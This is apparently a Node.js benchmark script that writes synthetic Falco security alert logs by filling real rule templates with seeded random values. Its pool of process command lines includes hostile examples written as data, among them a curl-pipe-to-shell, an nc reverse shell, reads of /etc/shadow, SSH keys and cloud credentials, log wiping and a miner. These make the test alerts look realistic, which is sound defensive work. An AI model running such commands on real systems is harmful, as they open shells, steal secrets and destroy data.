#!/usr/bin/env node
// Deterministic generator of realistic Falco alert logs for the benchmarks.
//
// The rules (names, priorities, sources, tags and output templates) are read at run time from the official rules
// files of the corpus (shared/corpus/rules), so nothing of them is copied into the project. Each alert renders the
// rule's output template as Falco prints it (falcoOutputFormat: the blanks inside are kept) with field values drawn
// from a seeded PRNG over pools of plausible values (processes, files, containers, Kubernetes objects, cloud
// identities), consistent within one event (the same process fills proc.name, proc.exepath and proc.cmdline). Lines are:
//   - JSON in Falco >= 0.39 key order (nlohmann::json sorts keys: hostname, output, output_fields, priority, rule,
//     source, tags, time; output_fields sorted too), with numbers kept numeric (evt.time in integer nanoseconds) and
//     missing values as null;
//   - a share of plain-text lines (`HH:MM:SS.nnnnnnnnn: Priority <rendered output>`), as a Falco with
//     json_output: false or a `kubectl logs` capture would write;
//   - a few Falco internal events (syscall event drops).
// Syscall alerts carry the suffix of suggested container fields that Falco >= 0.41 appends by default.
//
// Usage: node bench/generate-alerts.mjs --count 40000 --out .scratch/bench/alerts-40k.log [--seed 1] [--corpus DIR]
// Same seed, count and corpus: byte-identical output.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import YAML from 'yaml';

const SYSCALL_FILES = [
  ['falcosecurity__rules/falco_rules.yaml', 6],
  ['falcosecurity__rules/falco-incubating_rules.yaml', 2],
  ['falcosecurity__rules/falco-sandbox_rules.yaml', 1],
];
const PLUGIN_FILES = [
  ['falcosecurity__plugins/k8saudit/k8s_audit_rules.yaml', 3],
  ['falcosecurity__plugins/cloudtrail/aws_cloudtrail_rules.yaml', 1],
  ['falcosecurity__plugins/okta/okta_rules.yaml', 1],
  ['falcosecurity__plugins/github/github.yaml', 1],
  ['falcosecurity__plugins/gcpaudit/gcp_auditlog_rules.yaml', 1],
];
/** Shares of the line kinds. */
const TEXT_SHARE = 0.15;
const PLUGIN_SHARE = 0.15;
const INTERNAL_SHARE = 0.001;
const START_MS = Date.UTC(2025, 5, 2, 7, 30, 0);

// ---- seeded PRNG (mulberry32: small, fast, good enough for test data) ----
export class Random {
  constructor(seed) { this.state = seed >>> 0; }
  next() {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n) { return Math.floor(this.next() * n); }
  range(lo, hi) { return lo + this.int(hi - lo + 1); }
  pick(items) { return items[this.int(items.length)]; }
  chance(p) { return this.next() < p; }
  hex(n) { let s = ''; for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(16)]; return s; }
  /** Index drawn from cumulative weights. */
  weighted(cumulative) {
    const x = this.next() * cumulative[cumulative.length - 1];
    let lo = 0, hi = cumulative.length - 1;
    while (lo < hi) { const mid = (lo + hi) >> 1; if (cumulative[mid] > x) hi = mid; else lo = mid + 1; }
    return lo;
  }
}

// ---- rules, read from the corpus at run time ----
const PRIORITY_WORDS = {
  EMERGENCY: 'Emergency', ALERT: 'Alert', CRITICAL: 'Critical', ERROR: 'Error', WARNING: 'Warning', NOTICE: 'Notice',
  INFO: 'Informational', INFORMATIONAL: 'Informational', DEBUG: 'Debug',
};

/**
 * A rule's output format as Falco prints it, from the `output:` value after YAML parsing: the rule loader trims it at
 * both ends with C's isspace (rule_loader_reader.cpp `v.output = trim(v.output)`, libsinsp's trim) and the compiler
 * replaces `%container.info` with nothing (rule_loader_compiler.cpp, 0.41+); the blanks inside stay as they are. A
 * folded `output: >` whose lines end with a blank therefore keeps two blanks where the line break was folded (the
 * gcp_auditlog rules: `userAgent=%gcp.userAgent  authorizationInfo=`).
 */
export function falcoOutputFormat(output) {
  return output.replace(/^[ \t\n\v\f\r]+|[ \t\n\v\f\r]+$/g, '').replaceAll('%container.info', '');
}

function loadRules(corpusDir, files) {
  const rules = [];
  for (const [relative, weight] of files) {
    const file = path.join(corpusDir, 'rules', relative);
    if (!fs.existsSync(file)) continue;
    const items = YAML.parse(fs.readFileSync(file, 'utf8'));
    if (!Array.isArray(items)) continue;
    const macros = new Map();
    for (const item of items) if (item && typeof item.macro === 'string') macros.set(item.macro, String(item.condition ?? ''));
    for (const item of items) {
      if (!item || typeof item.rule !== 'string' || typeof item.output !== 'string' || item.append === true || item.override) continue;
      const priority = PRIORITY_WORDS[String(item.priority ?? 'WARNING').trim().toUpperCase()];
      if (!priority) continue;
      rules.push({
        name: item.rule, priority, source: typeof item.source === 'string' ? item.source : 'syscall',
        // Falco keeps a rule's tags in an ordered set: they come out sorted.
        tags: Array.isArray(item.tags) ? item.tags.map(String).sort() : [], output: falcoOutputFormat(item.output),
        evtTypes: eventTypesOf(String(item.condition ?? ''), macros), fileWeight: weight / Math.max(1, items.length),
      });
    }
  }
  return rules;
}

/** Event types a rule's condition names (directly or through a macro it uses), for a plausible evt.type. */
function eventTypesOf(condition, macros) {
  const seen = new Set();
  const types = new Set();
  const visit = (text, depth) => {
    for (const m of text.matchAll(/evt\.type\s*(?:=|in)\s*\(?\s*([a-z0-9_,\s]+)\)?/g)) {
      for (const t of m[1].split(/[\s,]+/)) if (/^[a-z][a-z0-9_]*$/.test(t) && t !== 'and' && t !== 'or') types.add(t);
    }
    if (depth > 3) return;
    for (const word of text.match(/[a-z_][a-z0-9_]*/g) ?? []) {
      if (macros.has(word) && !seen.has(word)) { seen.add(word); visit(macros.get(word), depth + 1); }
    }
  };
  visit(condition, 0);
  return [...types];
}

// ---- value pools ----
const HOSTS = ['ip-10-0-12-31.ec2.internal', 'ip-10-0-14-207.ec2.internal', 'gke-prod-pool-1-5f2c9a1e-x7qd', 'gke-prod-pool-1-5f2c9a1e-b3lk',
  'worker-01', 'worker-02', 'worker-03', 'build-runner-7', 'db-primary-1', 'bastion', 'aks-nodepool1-31718369-vmss000002', 'edge-gw-2'];
const WORKLOADS = [
  ['payments-api', 'ghcr.io/acme/payments-api', 'v2.14.1', 'shop'], ['checkout', 'ghcr.io/acme/checkout', 'v1.9.0', 'shop'],
  ['frontend', 'docker.io/library/nginx', '1.27.2', 'shop'], ['cart', 'ghcr.io/acme/cart', 'v3.1.7', 'shop'],
  ['redis', 'docker.io/library/redis', '7.2.5', 'shop'], ['postgres', 'docker.io/library/postgres', '16.3', 'data'],
  ['kafka', 'docker.io/bitnami/kafka', '3.7.0', 'data'], ['zookeeper', 'docker.io/bitnami/zookeeper', '3.9.2', 'data'],
  ['coredns', 'registry.k8s.io/coredns/coredns', 'v1.11.1', 'kube-system'], ['kube-proxy', 'registry.k8s.io/kube-proxy', 'v1.30.2', 'kube-system'],
  ['cilium-agent', 'quay.io/cilium/cilium', 'v1.15.6', 'kube-system'], ['falco', 'docker.io/falcosecurity/falco', '0.41.3', 'falco'],
  ['prometheus', 'quay.io/prometheus/prometheus', 'v2.53.0', 'monitoring'], ['grafana', 'docker.io/grafana/grafana', '11.1.0', 'monitoring'],
  ['jenkins-agent', 'docker.io/jenkins/inbound-agent', '3248.v65ecb_254c298-1', 'ci'], ['argocd-repo-server', 'quay.io/argoproj/argocd', 'v2.11.3', 'argocd'],
  ['debug-shell', 'docker.io/library/busybox', '1.36', 'default'], ['ml-notebook', 'docker.io/jupyter/scipy-notebook', '2024-05-27', 'research'],
  ['legacy-php', 'docker.io/library/php', '7.4-apache', 'legacy'], ['batch-export', 'ghcr.io/acme/batch-export', 'v0.8.2', 'data'],
];
const PROCESSES = [
  ['bash', '/usr/bin/bash', ['bash', 'bash -i', 'bash -c "curl -s http://10.0.3.7:8080/x | sh"', 'bash /tmp/run.sh']],
  ['sh', '/usr/bin/dash', ['sh -c id', 'sh -c "cat /etc/shadow"', 'sh /entrypoint.sh', 'sh -c "uname -a"']],
  ['curl', '/usr/bin/curl', ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'curl -fsSL https://example.org/install.sh', 'curl -k https://kubernetes.default.svc/api']],
  ['wget', '/usr/bin/wget', ['wget -q -O /tmp/x http://203.0.113.9/x', 'wget https://example.org/tool.tar.gz']],
  ['nc', '/usr/bin/nc.openbsd', ['nc -lvnp 4444', 'nc 198.51.100.23 443 -e /bin/sh']],
  ['python3', '/usr/bin/python3.11', ['python3 -c "import pty;pty.spawn(\'/bin/bash\')"', 'python3 app.py', 'python3 -m http.server 8000']],
  ['cat', '/usr/bin/cat', ['cat /etc/shadow', 'cat /root/.ssh/id_rsa', 'cat /proc/1/environ']],
  ['find', '/usr/bin/find', ['find / -name id_rsa', 'find /home -name "*.pem"', 'find / -perm -4000']],
  ['grep', '/usr/bin/grep', ['grep -r password /etc', 'grep -ri aws_secret_access_key /home']],
  ['nginx', '/usr/sbin/nginx', ['nginx -g "daemon off;"', 'nginx: worker process']],
  ['java', '/opt/java/openjdk/bin/java', ['java -jar /app/app.jar', 'java -Xmx2g -jar agent.jar']],
  ['node', '/usr/local/bin/node', ['node server.js', 'node /app/dist/index.js']],
  ['kubectl', '/usr/local/bin/kubectl', ['kubectl get secrets -A', 'kubectl exec -it payments-api -- sh']],
  ['sudo', '/usr/bin/sudo', ['sudo -i', 'sudo cat /etc/shadow', 'sudo su -']],
  ['apt-get', '/usr/bin/apt-get', ['apt-get install -y netcat-openbsd', 'apt-get update']],
  ['chmod', '/usr/bin/chmod', ['chmod +x /tmp/kinsing', 'chmod 4755 /usr/local/bin/helper']],
  ['tar', '/usr/bin/tar', ['tar czf /tmp/backup.tgz /var/lib/postgresql', 'tar xf payload.tar']],
  ['rm', '/usr/bin/rm', ['rm -rf /var/log/*', 'rm -f /root/.bash_history']],
  ['shred', '/usr/bin/shred', ['shred -u /var/log/auth.log']],
  ['ssh', '/usr/bin/ssh', ['ssh -p 2222 deploy@203.0.113.40', 'ssh -i /tmp/k root@10.0.9.4']],
  ['mount', '/usr/bin/mount', ['mount /dev/sda1 /mnt', 'mount -t cgroup cgroup /tmp/cg']],
  ['xmrig', '/tmp/.x/xmrig', ['./xmrig -o pool.example.net:3333']],
  ['runc', '/usr/bin/runc', ['runc --root /run/containerd/runc/k8s.io init']],
  ['dd', '/usr/bin/dd', ['dd if=/dev/zero of=/dev/sdb bs=1M']],
];
const PARENTS = ['bash', 'sh', 'containerd-shim', 'runc', 'sshd', 'sudo', 'python3', 'node', 'java', 'cron', 'systemd', 'kubelet', 'zsh', 'tini'];
const USERS = [['root', 0], ['root', 0], ['root', 0], ['www-data', 33], ['nobody', 65534], ['ubuntu', 1000], ['postgres', 999], ['node', 1000], ['app', 10001]];
const FILES = ['/etc/shadow', '/etc/passwd', '/etc/sudoers', '/root/.ssh/id_rsa', '/root/.ssh/authorized_keys', '/home/ubuntu/.aws/credentials',
  '/etc/kubernetes/admin.conf', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/etc/ld.so.preload', '/usr/local/bin/helper',
  '/etc/pam.d/common-auth', '/var/log/auth.log', '/dev/shm/.x', '/tmp/kinsing', '/proc/self/mem', '/etc/cron.d/backup', '/bin/falco-bin-test',
  '/sys/fs/cgroup/release_agent', '/var/lib/kubelet/pki/kubelet.key', '/etc/crontab'];
const EVT_TYPES = ['execve', 'openat', 'open', 'connect', 'accept', 'symlinkat', 'linkat', 'unlinkat', 'renameat2', 'mkdirat', 'setuid', 'ptrace', 'memfd_create', 'bpf', 'init_module'];
const K8S_USERS = ['kubernetes-admin', 'system:serviceaccount:ci:deployer', 'system:serviceaccount:default:default', 'alice@example.com', 'bob@example.com', 'system:kube-controller-manager'];
const K8S_RESOURCES = ['pods', 'secrets', 'configmaps', 'deployments', 'clusterrolebindings', 'rolebindings', 'serviceaccounts', 'daemonsets', 'services', 'namespaces'];
const K8S_VERBS = ['create', 'delete', 'get', 'list', 'patch', 'update', 'watch'];
const AWS_REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2'];
const AWS_USERS = ['deploy-bot', 'alice', 'bob', 'terraform', 'root', 'ci-runner'];
const OKTA_USERS = ['alice@example.com', 'bob@example.com', 'carol@example.com', 'svc-sync@example.com'];
const GITHUB_USERS = ['alice-dev', 'bob-ops', 'dependabot[bot]', 'carol'];
const GITHUB_REPOS = ['payments', 'infra', 'website', 'terraform-modules'];
const COUNTRIES = ['United States', 'Germany', 'Brazil', 'Singapore', 'Netherlands'];
const GCP_METHODS = ['storage.buckets.update', 'SetIamPolicy', 'cloudsql.instances.update', 'google.cloud.functions.v1.CloudFunctionsService.CreateFunction', 'compute.instances.insert'];

const NETWORK_EVENTS = new Set(['connect', 'accept', 'accept4', 'listen', 'bind', 'sendto', 'sendmsg', 'recvfrom', 'recvmsg']);
const NUMERIC = /^(user\.(uid|loginuid)|group\.gid|proc\.(pid|ppid|vpid|pvpid|sid|tty)|thread\.(tid|vtid)|fd\.(num|rport|lport|sport|cport|dport)|evt\.(num|count|rawres|cpu)|container\.start_ts|proc\.exe_ino(\.ctime|\.mtime|\.ctime_duration_proc_start)?|okta\..*countlast\[\d+\])$/;

/** 32-bit FNV-1a, for stable per-workload identifiers. */
function hash32(text) {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193) >>> 0;
  return h;
}

const ipv4 = (rnd, internal) => internal ? `10.${rnd.int(4)}.${rnd.int(16)}.${rnd.range(2, 250)}` : `${rnd.pick([198, 203, 185, 45])}.${rnd.int(256)}.${rnd.int(256)}.${rnd.range(1, 254)}`;

/** One event's consistent context: who, where, which process. */
function eventContext(rnd, rule, timeNs) {
  const inContainer = rnd.chance(0.7);
  const workload = rnd.pick(WORKLOADS);
  const replica = rnd.int(3);
  const [procName, exepath, cmdlines] = rnd.pick(PROCESSES);
  const [userName, uid] = rnd.pick(USERS);
  const instance = hash32(`${workload[0]}/${replica}`);
  const podSuffix = `${(instance % 0xfffffff).toString(36).padStart(6, 'b').slice(-6)}-${((instance >>> 7) % 60466176).toString(36).padStart(5, 'q').slice(-5)}`;
  return {
    rnd, rule, timeNs,
    hostname: rnd.pick(HOSTS),
    container: inContainer
      ? { id: (instance.toString(16).padStart(8, '0') + hash32(workload[1]).toString(16).padStart(8, '0')).slice(0, 12), name: workload[0], image: workload[1], tag: workload[2], pod: `${workload[0]}-${podSuffix}`, ns: workload[3] }
      : undefined,
    procName, exepath, cmdline: rnd.pick(cmdlines), parent: rnd.pick(PARENTS), userName, uid, loginuid: uid === 0 && rnd.chance(0.5) ? -1 : rnd.pick([1000, 1001, -1]),
    pid: rnd.range(300, 4194000), file: rnd.pick(FILES), evtType: rule.evtTypes.length ? rnd.pick(rule.evtTypes) : rnd.pick(EVT_TYPES),
    k8sUser: rnd.pick(K8S_USERS), k8sNs: rnd.pick(WORKLOADS)[3], k8sResource: rnd.pick(K8S_RESOURCES),
    awsUser: rnd.pick(AWS_USERS), oktaUser: rnd.pick(OKTA_USERS), ghUser: rnd.pick(GITHUB_USERS), ghRepo: rnd.pick(GITHUB_REPOS),
  };
}

/** The value of one output field for an event: string, number, bigint (nanoseconds) or null (`<NA>`). */
function fieldValue(field, c) {
  const { rnd } = c;
  const arg = /\[([^\]]*)\]$/.exec(field)?.[1];
  const base = field.replace(/\[[^\]]*\]$/, '');
  switch (base) {
    case 'evt.time': return c.timeNs;
    case 'evt.time.iso8601': return isoNs(c.timeNs);
    case 'evt.type': return c.evtType;
    case 'evt.num': return rnd.range(1e5, 9e8);
    case 'evt.res': return rnd.pick(['SUCCESS', 'SUCCESS', 'EACCES', 'ENOENT']);
    case 'evt.args': return `fd=${rnd.int(64)}(<f>${c.file}) dirfd=-100(AT_FDCWD) name=${c.file} flags=1(O_RDONLY)`;
    case 'evt.arg.flags': return rnd.pick(['EXE_WRITABLE|EXE_UPPER_LAYER', 'EXE_UPPER_LAYER', 'O_RDONLY', 'O_WRONLY|O_CREAT|O_TRUNC', '0']);
    case 'evt.arg.name': case 'evt.arg.path': case 'evt.arg.filename': case 'evt.arg.oldpath': case 'evt.arg.target': return c.file;
    case 'evt.arg.newpath': case 'evt.arg.linkpath': return `/tmp/${c.file.split('/').pop()}_link`;
    case 'evt.arg.mode': return rnd.pick(['0755', '04755', '0644']);
    case 'evt.arg.cmd': return rnd.pick(['BPF_PROG_LOAD', 'BPF_MAP_CREATE']);
    case 'evt.arg.uid': return String(c.uid);
    case 'evt.arg.fd': return String(rnd.int(64));
    case 'evt.plugininfo': return `${c.rule.source} event`;
    case 'user.name': return c.userName;
    case 'user.loginname': return c.loginuid === -1 ? null : 'ubuntu';
    case 'user.uid': return c.uid;
    case 'user.loginuid': return c.loginuid;
    case 'group.name': return c.userName === 'root' ? 'root' : c.userName;
    case 'group.gid': return c.uid;
    case 'proc.name': return c.procName;
    case 'proc.exepath': case 'proc.exe': return base === 'proc.exe' ? c.cmdline.split(' ')[0] : c.exepath;
    case 'proc.cmdline': return c.cmdline;
    case 'proc.args': return c.cmdline.split(' ').slice(1).join(' ');
    case 'proc.pname': return c.parent;
    case 'proc.pexe': case 'proc.pexepath': return `/usr/bin/${c.parent}`;
    case 'proc.pcmdline': return `${c.parent} ${rnd.pick(['-c', '--login', ''])}`.trim();
    case 'proc.sname': return rnd.pick(['bash', 'sshd', 'containerd-shim', 'systemd']);
    case 'proc.aname': return arg === '2' ? rnd.pick(PARENTS) : arg === '3' ? rnd.pick(['containerd-shim', 'sshd', 'systemd', 'zsh']) : rnd.chance(0.4) ? null : rnd.pick(['systemd', 'containerd', 'kitty']);
    case 'proc.aexepath': return `/usr/bin/${rnd.pick(PARENTS)}`;
    case 'proc.pid': return c.pid;
    case 'thread.tid': return c.pid + rnd.int(8);
    case 'proc.tty': return rnd.chance(0.6) ? 0 : rnd.range(34816, 34830);
    case 'proc.cwd': return rnd.pick(['/', '/root/', '/app/', '/tmp/', '/home/ubuntu/']);
    case 'proc.env': return `PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin HOSTNAME=${c.container?.pod ?? c.hostname} HOME=/root`;
    case 'proc.exe_ino.ctime': case 'proc.exe_ino.mtime': return c.timeNs - BigInt(rnd.range(1, 9000)) * 1000000n;
    case 'proc.exe_ino.ctime_duration_proc_start': return rnd.range(1e6, 5e9);
    case 'thread.cap_permitted': case 'thread.cap_effective': return rnd.pick(['CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN', 'CAP_NET_RAW CAP_NET_BIND_SERVICE', 'CAP_SYS_PTRACE']);
    case 'fd.name': case 'fd.nameraw': return NETWORK_EVENTS.has(c.evtType) || c.rule.tags.includes('network') ? `${ipv4(rnd, true)}:${rnd.range(32768, 60999)}->${ipv4(rnd, false)}:${rnd.pick([443, 80, 4444, 6443, 3333])}` : c.file;
    case 'fd.type': return rnd.pick(['file', 'ipv4', 'unix', 'memfd']);
    case 'fd.l4proto': return rnd.pick(['tcp', 'udp']);
    case 'fd.rip': case 'fd.sip': case 'fd.cip': return ipv4(rnd, base !== 'fd.rip');
    case 'fd.lip': return ipv4(rnd, true);
    case 'fd.rip.name': case 'fd.sip.name': case 'fd.lip.name': case 'fd.cip.name': return rnd.pick(['kubernetes.default.svc', 'pool.example.net', null]);
    case 'fd.rport': case 'fd.sport': return rnd.pick([443, 80, 22, 4444, 6443, 2379, 3333]);
    case 'fd.lport': return rnd.range(32768, 60999);
    case 'container.id': return c.container?.id ?? 'host';
    case 'container.name': return c.container?.name ?? 'host';
    case 'container.image.repository': return c.container?.image ?? null;
    case 'container.image.tag': return c.container?.tag ?? null;
    case 'container.start_ts': return c.timeNs - BigInt(rnd.range(60, 86400)) * 1000000000n;
    case 'container.mounts': return '/var/run/docker.sock:/var/run/docker.sock::true:rprivate';
    case 'k8s.pod.name': return c.container?.pod ?? null;
    case 'k8s.ns.name': return c.container?.ns ?? null;
    case 'ka.user.name': return c.k8sUser;
    case 'ka.target.namespace': return c.k8sNs;
    case 'ka.target.resource': return c.k8sResource;
    case 'ka.target.subresource': return rnd.pick(['exec', 'attach', 'portforward', null]);
    case 'ka.target.name': case 'ka.resp.name': return `${c.k8sResource.replace(/s$/, '')}-${rnd.hex(5)}`;
    case 'ka.verb': return rnd.pick(K8S_VERBS);
    case 'ka.uri': return `/api/v1/namespaces/${c.k8sNs}/${c.k8sResource}`;
    case 'ka.uri.param': return rnd.pick(['sh', 'bash', 'cat']);
    case 'ka.response.code': return rnd.pick(['200', '201', '403', '409']);
    case 'ka.response.reason': case 'ka.auth.reason': return rnd.pick(['RBAC: allowed by ClusterRoleBinding "cluster-admin"', 'Forbidden']);
    case 'ka.auth.decision': return rnd.pick(['allow', 'forbid']);
    case 'ka.req.pod.containers.image': case 'ka.req.pod.initContainers.image': case 'ka.req.pod.ephemeralContainers.image': return `(${rnd.pick(WORKLOADS)[1]}:latest)`;
    case 'ct.user': case 'ct.request.username': return c.awsUser;
    case 'ct.user.arn': return `arn:aws:iam::123456789012:user/${c.awsUser}`;
    case 'ct.user.principalid': return `AIDA${rnd.hex(16).toUpperCase()}`;
    case 'ct.region': return rnd.pick(AWS_REGIONS);
    case 'ct.srcip': return ipv4(rnd, false);
    case 'ct.id': return `${rnd.hex(8)}-${rnd.hex(4)}-${rnd.hex(4)}-${rnd.hex(4)}-${rnd.hex(12)}`;
    case 'ct.error': return rnd.pick([null, 'AccessDenied']);
    case 'okta.actor.name': case 'okta.target.user.name': return c.oktaUser;
    case 'okta.client.ip': return ipv4(rnd, false);
    case 'okta.client.geo.country': return rnd.pick(COUNTRIES);
    case 'okta.mfa.failure.countlast': case 'okta.mfa.deny.countlast': return rnd.range(1, 12);
    case 'github.user': case 'github.collaborator.name': return c.ghUser;
    case 'github.org': case 'github.owner': return 'acme-corp';
    case 'github.repo.name': return c.ghRepo;
    case 'github.repo.url': return `https://github.com/acme-corp/${c.ghRepo}`;
    case 'gcp.user': return c.oktaUser;
    case 'gcp.callerIP': return ipv4(rnd, false);
    case 'gcp.projectId': return rnd.pick(['acme-prod-4411', 'acme-staging-2093']);
    case 'gcp.methodName': return rnd.pick(GCP_METHODS);
    case 'gcp.serviceName': return rnd.pick(['storage.googleapis.com', 'iam.googleapis.com', 'compute.googleapis.com']);
    case 'gcp.userAgent': return rnd.pick(['google-cloud-sdk gcloud/478.0.0', 'Terraform/1.8.5']);
    default: break;
  }
  if (NUMERIC.test(field)) return rnd.range(0, 65535);
  const last = base.split('.').pop() ?? 'value';
  return rnd.chance(0.05) ? null : `${last}-${rnd.int(40)}`;
}

/** Output tokens: `%field` or `%field[arg]`; anything else (`%%`, `%s`, transformers) is left as text. */
const TOKEN = /%([a-z][a-zA-Z0-9_]*\.[a-zA-Z0-9_.]+(?:\[[^\]\s]*\])?)/g;
const CONTAINER_SUFFIX = [
  ['container_id', 'container.id'], ['container_name', 'container.name'], ['container_image_repository', 'container.image.repository'],
  ['container_image_tag', 'container.image.tag'], ['k8s_pod_name', 'k8s.pod.name'], ['k8s_ns_name', 'k8s.ns.name'],
];

const pad = (n, w) => String(n).padStart(w, '0');
function clock(timeNs) {
  const ms = Number(timeNs / 1000000n);
  const d = new Date(ms);
  return `${pad(d.getUTCHours(), 2)}:${pad(d.getUTCMinutes(), 2)}:${pad(d.getUTCSeconds(), 2)}.${pad(timeNs % 1000000000n, 9)}`;
}
function isoNs(timeNs) {
  const d = new Date(Number(timeNs / 1000000n));
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1, 2)}-${pad(d.getUTCDate(), 2)}T${clock(timeNs)}Z`;
}
const textOf = (v) => (v === null || v === undefined ? '<NA>' : String(v));
const jsonOf = (v) => (typeof v === 'bigint' ? v.toString() : JSON.stringify(v));
/** JSON text of an object with keys in byte order, as nlohmann::json writes it. */
function sortedJson(entries) {
  entries.sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0));
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${jsonOf(v)}`).join(',')}}`;
}

/** One alert of `rule`: a JSON line, or with `asText` a text line (`time: Priority output`). */
export function renderAlert(rule, rnd, timeNs, asText) {
  const c = eventContext(rnd, rule, timeNs);
  const fields = new Map([['evt.time', timeNs]]);
  const value = (field) => { if (!fields.has(field)) fields.set(field, fieldValue(field, c)); return fields.get(field); };
  let message = rule.output.replace(TOKEN, (_, field) => textOf(value(field)));
  if (rule.source === 'syscall') message += ' ' + CONTAINER_SUFFIX.map(([key, field]) => `${key}=${textOf(value(field))}`).join(' ');
  const output = `${clock(timeNs)}: ${rule.priority} ${message}`;
  if (asText) return output;
  return sortedJson([
    ['hostname', c.hostname], ['output', output], ['priority', rule.priority], ['rule', rule.name], ['source', rule.source],
    ['tags', rule.tags], ['time', isoNs(timeNs)],
  ]).replace(',"priority":', `,"output_fields":${sortedJson([...fields.entries()])},"priority":`);
}

function renderInternal(rnd, timeNs, asText) {
  const drops = rnd.range(1, 5000);
  const fields = [['n_drops', drops], ['n_drops_buffer_total', drops], ['n_drops_bug', 0], ['n_drops_pf', 0], ['n_evts', rnd.range(1e6, 9e7)]];
  const output = `${clock(timeNs)}: Debug Falco internal: syscall event drop. ${drops} system calls dropped in last second.`;
  if (asText) return output;
  return sortedJson([['hostname', rnd.pick(HOSTS)], ['output', output], ['output_fields', null], ['priority', 'Debug'], ['rule', 'Falco internal: syscall event drop'], ['source', 'internal'], ['time', isoNs(timeNs)]])
    .replace('"output_fields":null', `"output_fields":${sortedJson(fields)}`);
}

/** Cumulative Zipf-like weights over a seeded shuffle of the rules: a few noisy rules, a long tail. */
function ruleWeights(rules, rnd) {
  const order = rules.map((_, i) => i);
  for (let i = order.length - 1; i > 0; i--) { const j = rnd.int(i + 1); [order[i], order[j]] = [order[j], order[i]]; }
  const weights = new Array(rules.length);
  order.forEach((ruleIndex, rank) => { weights[ruleIndex] = rules[ruleIndex].fileWeight / Math.pow(rank + 1, 1.1); });
  let sum = 0;
  return weights.map((w) => (sum += w));
}

/** The rules the generator draws from: { syscall, plugin }, each with name, priority, source, tags, output. */
export function generatorRules(corpusDir) {
  return { syscall: loadRules(corpusDir, SYSCALL_FILES), plugin: loadRules(corpusDir, PLUGIN_FILES) };
}

/** The rules files the generator reads, relative to the corpus's rules folder. */
export const RULES_FILES = [...SYSCALL_FILES, ...PLUGIN_FILES].map(([relative]) => relative);

/**
 * Writes `count` alert lines to `out`. Returns { lines, bytes }.
 * @param {{ count: number, out: string, seed?: number, corpusDir: string }} options
 */
export async function generateAlertLog({ count, out, seed = 1, corpusDir }) {
  const rnd = new Random(seed);
  const { syscall: syscallRules, plugin: pluginRules } = generatorRules(corpusDir);
  if (syscallRules.length === 0) throw new Error(`no rules found under ${path.join(corpusDir, 'rules')}`);
  const syscallWeights = ruleWeights(syscallRules, rnd);
  const pluginWeights = pluginRules.length ? ruleWeights(pluginRules, rnd) : [];
  fs.mkdirSync(path.dirname(out), { recursive: true });
  const partial = `${out}.partial-${process.pid}`;
  const stream = fs.createWriteStream(partial);
  let timeNs = BigInt(START_MS) * 1000000n + BigInt(rnd.int(1e6));
  let bytes = 0;
  let batch = [];
  for (let i = 0; i < count; i++) {
    // Bursty arrivals: mostly milliseconds apart, sometimes seconds.
    timeNs += BigInt(Math.floor((rnd.chance(0.05) ? rnd.range(1000, 30000) : rnd.range(0, 120)) * 1e6 + rnd.int(1e6)));
    const asText = rnd.chance(TEXT_SHARE);
    let line;
    if (rnd.chance(INTERNAL_SHARE)) line = renderInternal(rnd, timeNs, asText);
    else if (pluginRules.length && rnd.chance(PLUGIN_SHARE)) line = renderAlert(pluginRules[rnd.weighted(pluginWeights)], rnd, timeNs, asText);
    else line = renderAlert(syscallRules[rnd.weighted(syscallWeights)], rnd, timeNs, asText);
    batch.push(line);
    if (batch.length === 2000 || i === count - 1) {
      const chunk = batch.join('\n') + '\n';
      bytes += Buffer.byteLength(chunk);
      batch = [];
      if (!stream.write(chunk)) await new Promise((resolve) => stream.once('drain', resolve));
    }
  }
  await new Promise((resolve, reject) => stream.end((e) => (e ? reject(e) : resolve())));
  fs.renameSync(partial, out);
  return { lines: count, bytes };
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const arg = (name, fallback) => { const i = process.argv.indexOf(`--${name}`); return i > 0 ? process.argv[i + 1] : fallback; };
  const count = Number(arg('count', '1000'));
  const out = arg('out');
  const corpusDir = arg('corpus', path.join(process.cwd(), '..', 'shared', 'corpus'));
  if (!out || !Number.isInteger(count) || count < 0) {
    console.error('usage: node bench/generate-alerts.mjs --count N --out FILE [--seed S] [--corpus DIR]');
    process.exit(2);
  }
  const started = Date.now();
  const result = await generateAlertLog({ count, out, seed: Number(arg('seed', '1')), corpusDir });
  console.log(`${out}: ${result.lines} alerts, ${(result.bytes / 1e6).toFixed(1)} MB in ${((Date.now() - started) / 1000).toFixed(1)} s`);
}
